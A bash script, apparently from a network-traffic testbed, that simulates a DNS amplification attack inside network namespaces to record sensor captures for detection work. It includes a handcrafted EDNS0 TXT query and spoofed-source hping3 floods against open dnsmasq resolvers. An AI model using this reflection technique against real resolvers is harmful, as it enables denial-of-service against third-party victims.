#!/usr/bin/env bash
# DNS amplification through open resolvers on the LAN (dnsmasq on the TB_BOTS hosts, hping3 from
# TB_NS). The attacker is outside the monitored network: it reaches each resolver over a link of its
# own (a veth pair made here, not on the captured bridge) and sends ~70-byte queries for a 1.3 kB TXT
# record with the victim's address as their source. What the capture holds is what a sensor in
# front of the victim sees: one-way answers from port 53 of several resolvers, and the victim's
# ICMP port-unreachables back to them.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
read -ra resolvers <<< "$TB_BOTS"
# Five 250-character strings: an answer of ~1.3 kB, under the 1500-byte MTU (no fragments).
chunk=$(printf 'v=amp%.0s' $(seq 1 50))
txt="amp.testbed.lan"
for _ in 1 2 3 4 5; do txt+=",$chunk"; done
# The query: id, RD, one question (amp.testbed.lan TXT IN) and an EDNS0 OPT record asking for 4096-byte
# answers, as amplification tools send it.
query="$TB_STATE/amp-query-$TB_SEED.bin"
printf '\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03amp\x07testbed\x03lan\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' > "$query"
qlen=$(stat -c %s "$query")
i=0
for r in "${resolvers[@]}"; do
  i=$(( i + 1 ))
  lan_ip=$(ip -n "$r" -4 -o addr show dev eth0 | awk '{print $4}' | cut -d/ -f1)
  # The attacker's own path to the resolver, off the captured LAN.
  ip link add "amp$i" netns "$TB_NS" type veth peer name wan0 netns "$r"
  ip -n "$TB_NS" link set "amp$i" up
  ip -n "$TB_NS" addr add "10.78.$i.1/30" dev "amp$i"
  ip -n "$TB_NS" route add "$lan_ip/32" dev "amp$i"
  ip -n "$r" link set wan0 up
  ip -n "$r" addr add "10.78.$i.2/30" dev wan0
  # A query from the victim's address arrives on the wrong interface: accept it (no reverse-path check).
  ip netns exec "$r" sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.wan0.rp_filter=0
  tb_bg "$r" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
    --bind-interfaces --listen-address="$lan_ip" --pid-file="$TB_STATE/amp-dnsmasq-$i.pid" \
    --txt-record="$txt" --edns-packet-max=4096 --cache-size=0
done
sleep 1
# Each resolver gets a third of the packet budget, spread over 80% of the time left; hping3 moves to
# the next source port with every query (each answer lands on a new victim port, as with real tools).
per=$(( TB_PACKETS / ${#resolvers[@]} )); [ "$per" -ge 1 ] || per=1
interval=$(( ( TB_SECONDS - 1 ) * 800000 / per )); [ "$interval" -ge 10 ] || interval=10
floods=()
for r in "${resolvers[@]}"; do
  lan_ip=$(ip -n "$r" -4 -o addr show dev eth0 | awk '{print $4}' | cut -d/ -f1)
  tb_bg "$TB_NS" hping3 --udp --quiet -a "$TB_VICTIM" -s $(( 1024 + RANDOM % 30000 )) -p 53 \
    -E "$query" -d "$qlen" -c "$per" -i "u$interval" "$lan_ip"
  floods+=($!)
done
wait "${floods[@]}"
sleep 1  # the last answers
for ((j = 1; j <= i; j++)); do kill "$(cat "$TB_STATE/amp-dnsmasq-$j.pid")" 2>/dev/null; done
wait
